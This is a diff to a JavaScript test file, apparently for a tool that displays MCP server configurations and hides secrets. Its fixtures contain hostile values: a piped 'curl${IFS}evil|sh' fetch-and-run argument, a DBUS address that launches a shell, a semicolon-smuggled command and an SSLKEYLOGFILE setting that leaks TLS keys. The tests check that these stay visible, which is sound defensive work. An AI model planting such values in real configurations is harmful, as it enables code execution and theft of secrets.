@@ -68,3 +68,15 @@ test('a payload does not pass for a secret', () => {
   expect(text({ mcpServers: { a: { command: 'sh', args } } })).toContain(`curl\${IFS}evil|sh`);
   expect(text({ mcpServers: { a: { command: 'x', args: ['--token=abcdef123456'] } } })).toContain('--token=[REDACTED]');
 });
+
+test('E8 a variable that makes a program run something is shown, even if its name is that of a secret', () => {
+  const env = {
+    DBUS_SESSION_BUS_ADDRESS: 'unixexec:path=sh,argv1=evil',
+    SSLKEYLOGFILE: '/tmp/log',
+    AUTH_HELPER: 'a;evil',
+    API_KEY: 'p@ss!',
+  };
+  const shown = text({ mcpServers: { a: { command: 'x', env } } });
+  for (const value of ['unixexec:path=sh,argv1=evil', '/tmp/log', 'a;evil']) expect(shown).toContain(value);
+  expect(shown).toContain('API_KEY=[hidden, 5 characters]');
+});
